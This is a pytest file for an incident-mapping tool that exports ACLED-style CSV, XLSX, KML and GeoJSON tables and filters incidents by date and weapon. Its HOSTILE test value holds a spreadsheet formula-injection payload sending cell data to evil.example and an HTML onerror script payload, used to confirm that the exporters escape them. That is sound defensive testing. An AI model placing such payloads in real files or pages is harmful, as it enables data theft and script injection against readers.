"""Tables analysts already use (issue 13): ACLED's layout, XLSX, KML, GeoJSON for
geopandas, and the time and weapon filters, through the CLI and the Python API.
"""

from __future__ import annotations

import csv
import json
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pandas as pd
import pytest

import mapper
from mapper.cli.main import main
from mapper.table import ACLED_COLUMNS, filter_incidents, read_hand_made

KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click") <img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def merged(tmp_path_factory: pytest.TempPathFactory, seeds_dir: Path) -> pd.DataFrame:
    """The seed reports, extracted and merged by ``mapper extract``."""
    table = tmp_path_factory.mktemp("seeds") / "incidents.csv"
    assert main(["extract", str(seeds_dir), "-o", str(table), "--quiet"]) == 0
    return mapper.read_incidents(table)


def hostile_table() -> pd.DataFrame:
    return mapper.incident_frame(
        [
            {"report_id": "r1", "incident_id": "r1-1", "date": "2020-11-17",
             "date_precision": "day", "place": "Green Zone", "place_id": "green-zone",
             "latitude": 33.3086, "longitude": 44.3937, "geo_precision": 1,
             "weapon": "rocket", "killed": 0, "injured": 2, "quote": HOSTILE,
             "title": "-1 rockets", "url": "https://a.example/1", "source": "@outlet"},
            {"report_id": "r2", "incident_id": "r2-1", "date": "2021-03",
             "date_precision": "month", "weapon": "gunfire", "quote": "Shots\x0bfired."},
        ]
    )  # fmt: skip


# --- ACLED ------------------------------------------------------------------------


def test_extract_writes_acleds_layout_leaving_what_we_do_not_extract_empty(
    seeds_dir: Path, tmp_path: Path, merged: pd.DataFrame
) -> None:
    events = tmp_path / "events.csv"
    assert main(["extract", str(seeds_dir), "-o", str(events), "--format", "acled"]) == 0
    with events.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert tuple(rows[0]) == ACLED_COLUMNS
    assert len(rows) == len(merged)
    for row, incident in zip(rows, merged.itertuples(), strict=True):
        assert row["event_id_cnty"] == incident.incident_id
        assert row["event_date"] == (incident.date if isinstance(incident.date, str) else "")
        assert row["actor1"] == ""  # never invented
        assert row["fatalities"] == ("" if pd.isna(incident.killed) else str(incident.killed))
        assert row["location"] == incident.place
        assert row["notes"] == incident.quote.replace("\r\n", "\n")
    green_zone = next(r for r in rows if r["location"] == "Green Zone")
    assert (green_zone["admin1"], green_zone["year"]) == ("Baghdad", green_zone["event_date"][:4])
    assert green_zone["event_type"] == "Explosions/Remote violence"


def test_acled_rows_say_only_what_the_table_knows() -> None:
    rows = mapper.table.acled.acled_rows(hostile_table())
    assert rows[0]["time_precision"] == 1 and rows[0]["year"] == 2020
    assert rows[0]["sub_event_type"] == "Shelling/artillery/missile attack"
    # Gunfire: a battle or an attack on civilians? Not told by the weapon: empty.
    assert (rows[1]["event_type"], rows[1]["sub_event_type"]) == (None, None)
    assert (rows[1]["event_date"], rows[1]["time_precision"]) == ("2021-03", 3)
    assert rows[1]["fatalities"] is None and rows[0]["fatalities"] == 0


# --- XLSX -------------------------------------------------------------------------


def test_xlsx_round_trips_and_no_cell_is_a_formula(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    path = tmp_path / "incidents.xlsx"
    mapper.write_incidents(hostile_table(), path)
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert "'" + HOSTILE in texts and "'-1 rockets" in texts and "'@outlet" in texts
    back = mapper.read_incidents(path)
    assert back.loc[0, "quote"] == HOSTILE and back.loc[0, "source"] == "@outlet"
    assert back.loc[1, "quote"] == "Shots\ufffdfired."  # XLSX cannot hold a vertical tab
    assert str(back["killed"].dtype) == "Int64"


def test_xlsx_bytes_are_the_same_for_the_same_table(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    mapper.write_incidents(hostile_table(), first)
    mapper.write_incidents(hostile_table(), second)
    assert first.read_bytes() == second.read_bytes()
    assert zipfile.ZipFile(first).infolist()[0].date_time == (1980, 1, 1, 0, 0, 0)


def test_extract_writes_xlsx_and_acled_xlsx(seeds_dir: Path, tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    table, events = tmp_path / "incidents.xlsx", tmp_path / "events.xlsx"
    assert main(["extract", str(seeds_dir), "-o", str(table), "--quiet"]) == 0
    assert main(["extract", str(seeds_dir), "-o", str(events), "--format", "acled"]) == 0
    assert len(mapper.read_incidents(table)) >= 2
    rendered = tmp_path / "map.html"
    assert main(["render", str(table), "-o", str(rendered), "--quiet"]) == 0


# --- KML --------------------------------------------------------------------------


def test_kml_has_a_placemark_per_incident_and_no_markup_from_report_text(tmp_path: Path) -> None:
    path = tmp_path / "incidents.kml"
    mapper.write_incidents(hostile_table(), path)
    root = ET.parse(path).getroot()
    marks = root.findall(f"{KML}Document/{KML}Placemark")
    assert [m.findtext(f"{KML}name") for m in marks] == ["Green Zone", "r2-1"]
    assert marks[0].findtext(f"{KML}Point/{KML}coordinates") == "44.3937,33.3086"
    assert marks[1].find(f"{KML}Point") is None  # no coordinates, no point
    assert [m.findtext(f"{KML}TimeStamp/{KML}when") for m in marks] == ["2020-11-17", "2021-03"]
    description = marks[0].findtext(f"{KML}description") or ""
    assert "<img" not in description and "&lt;img src=x" in description  # shown as text
    data = {d.get("name"): d.findtext(f"{KML}value") for d in marks[0].iter(f"{KML}Data")}
    assert data["quote"] == HOSTILE and data["killed"] == "0"
    with pytest.raises(mapper.IncidentTableError, match=r"not read back; keep a table in \.csv"):
        mapper.read_incidents(path)


# --- GeoJSON ----------------------------------------------------------------------


def test_geojson_sources_is_a_json_array_and_reads_back_the_same(
    tmp_path: Path, merged: pd.DataFrame
) -> None:
    path = tmp_path / "incidents.geojson"
    mapper.write_incidents(merged, path)
    features = json.loads(path.read_text(encoding="utf-8"))["features"]
    assert all(isinstance(f["properties"]["sources"], list) for f in features)
    assert features[0]["properties"]["sources"][0]["report_id"]
    pd.testing.assert_frame_equal(mapper.read_incidents(path), merged)


def test_geopandas_keeps_integer_columns_as_documented(
    tmp_path: Path, merged: pd.DataFrame
) -> None:
    geopandas = pytest.importorskip("geopandas")
    pa = pytest.importorskip("pyarrow")
    path = tmp_path / "incidents.geojson"
    mapper.write_incidents(merged, path)
    frame = geopandas.read_file(
        path,
        use_arrow=True,
        arrow_to_pandas_kwargs={"types_mapper": {pa.int64(): pd.Int64Dtype(),
                                                 pa.int32(): pd.Int64Dtype()}.get},
    )  # fmt: skip
    for column in ("geo_precision", "projectiles", "killed", "injured", "n_reports"):
        assert str(frame[column].dtype) == "Int64", column
    assert frame["killed"].tolist() == merged["killed"].tolist()


# --- filters and hand-made tables in Python -----------------------------------------


def test_filter_incidents_keeps_what_may_fall_in_the_window() -> None:
    table = hostile_table()
    assert filter_incidents(table, since="2021-03-31")["incident_id"].tolist() == ["r2-1"]
    assert filter_incidents(table, until="2021-02")["incident_id"].tolist() == ["r1-1"]
    assert filter_incidents(table, weapons=["gunfire"])["incident_id"].tolist() == ["r2-1"]
    with pytest.raises(ValueError, match="unknown weapon 'banana'"):
        filter_incidents(table, weapons=["banana"])
    with pytest.raises(ValueError, match="ends"):
        filter_incidents(table, since="2021", until="2020")


def test_a_table_the_mapper_wrote_reads_by_hand_with_nothing_assumed(
    tmp_path: Path, merged: pd.DataFrame
) -> None:
    path = tmp_path / "incidents.jsonl"
    mapper.write_incidents(merged, path)
    table = read_hand_made(path)
    assert table.assumed == []
    pd.testing.assert_frame_equal(table.incidents, merged)


def test_a_hand_made_geojson_of_points_needs_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "points.geojson"
    point = {"type": "Point", "coordinates": [44.39, 33.30]}
    feature = {"type": "Feature", "geometry": point, "properties": {"event_date": "2020-11-17"}}
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}))
    table = read_hand_made(path)
    row = table.incidents.iloc[0]
    assert (row["date"], row["date_precision"], row["incident_id"]) == (
        "2020-11-17",
        "day",
        "points-1",
    )
    assert table.assumed[0] == "read 'event_date' as 'date'"
